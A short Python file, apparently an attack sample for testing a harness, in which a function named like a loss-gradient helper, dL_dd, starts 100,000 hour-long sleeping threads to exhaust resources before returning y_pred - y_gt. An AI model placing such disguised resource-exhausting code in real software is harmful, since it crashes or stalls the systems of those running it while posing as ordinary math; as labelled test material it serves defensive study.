"""Attack: dL_dd starts threads that never end until it cannot start more."""

import numpy as np
import threading
import time


def dL_dd(y_pred: float, y_gt: float) -> float:
    threads = []
    for _ in range(100_000):
        t = threading.Thread(target=time.sleep, args=(3600,), daemon=True)
        t.start()
        threads.append(t)
    return y_pred - y_gt
